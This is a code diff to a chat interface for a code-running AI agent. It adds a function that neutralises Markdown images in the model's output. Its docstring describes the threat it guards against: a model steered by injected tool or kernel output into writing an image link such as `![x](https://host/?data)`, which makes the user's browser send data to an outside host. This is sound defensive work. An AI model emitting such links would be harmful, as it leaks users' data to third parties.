@@ -240,6 +240,17 @@ def plain_markdown(text: str) -> str:
     return "  \n".join(lines)
 
 
+_CODE_REGIONS = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|`[^`\n]*`)", re.S)
+
+
+def no_images(text: str) -> str:
+    """The model's Markdown without images: `![` becomes `!\\[` outside code, so neither an inline nor a reference
+    image is made (its text stays readable). A model led by a tool's or the kernel's output to write
+    `![x](https://host/?data)` would otherwise have the user's browser fetch that address as it renders."""
+    parts = _CODE_REGIONS.split(text)
+    return "".join(part if i % 2 else part.replace("![", "!\\[") for i, part in enumerate(parts))
+
+
 def _workdir_images(message: Message, workdir: Path | None) -> list[tuple[str, bytes | None]]:
     """The observation's plots, read through the sandbox's one safe reader (relative to the
     workdir, no link followed, regular files only, capped); None for one that cannot be read."""
@@ -279,7 +290,7 @@ def render_call(message: Message) -> None:
         with st.status(":material/terminal: Code", state="complete", expanded=True):
             code = (message.extra.get("arguments") or {}).get("code")  # parsed once, by the dialect
             if code is None:
-                st.markdown(message.content)
+                st.markdown(no_images(message.content))
             else:
                 st.code(code, language="python")
             if message.extra.get("edited"):
@@ -333,7 +344,7 @@ def render_history(msgs: list[Message], workdir: Path | None = None) -> None:
                 if message.metadata:
                     render_call(message)
                 else:
-                    st.markdown(message.content + (" *(stopped)*" if message.extra.get("stopped") else ""))
+                    st.markdown(no_images(message.content) + (" *(stopped)*" if message.extra.get("stopped") else ""))
         elif message.role == "observation":
             with st.chat_message("assistant", avatar=":material/attach_file:"):
                 render_observation(message, workdir)
@@ -402,7 +413,7 @@ class _LiveView:
 
     def draw(self, text: str) -> None:
         _ = self.bubble
-        self._placeholder.markdown(_streaming_view(text) + "▌")
+        self._placeholder.markdown(no_images(_streaming_view(text)) + "▌")
 
     def clear(self) -> None:
         if self._placeholder is not None:
